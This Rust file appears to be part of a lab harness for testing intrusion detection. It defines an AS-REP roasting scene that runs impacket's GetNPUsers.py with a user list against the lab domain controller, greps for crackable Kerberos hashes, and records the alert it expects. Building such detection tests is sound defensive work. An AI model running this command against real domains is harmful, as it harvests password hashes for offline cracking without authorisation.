//! AS-REP roasting by impacket: a list of names, each asked for without pre-authentication
//! (RFC 4120 5.2.7) and with RC4 alone; one of them answers with something to crack.

use anyhow::Result;

use crate::accounts::{NO_PREAUTH, PEOPLE};
use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "asrep-roast-getnpusers",
    "AS-REP roasting through a list of accounts, RC4 (impacket)",
    Tool::python("GetNPUsers.py", "impacket"),
    &[Expected {
        external_id: 2412,
        source: ATTACKER,
        account: None,
        targets: &["nopreauth@hawk.example"],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    let attacker = lab.host("attacker")?;
    attacker.write_private("users", format!("{}\n{NO_PREAUTH}\n", PEOPLE.join("\n")))?;
    attacker.script(
        r#"GetNPUsers.py "$DOMAIN/" -no-pass -usersfile users -dc-ip "$DC" | grep krb5asrep"#,
    )?;
    Ok(())
}
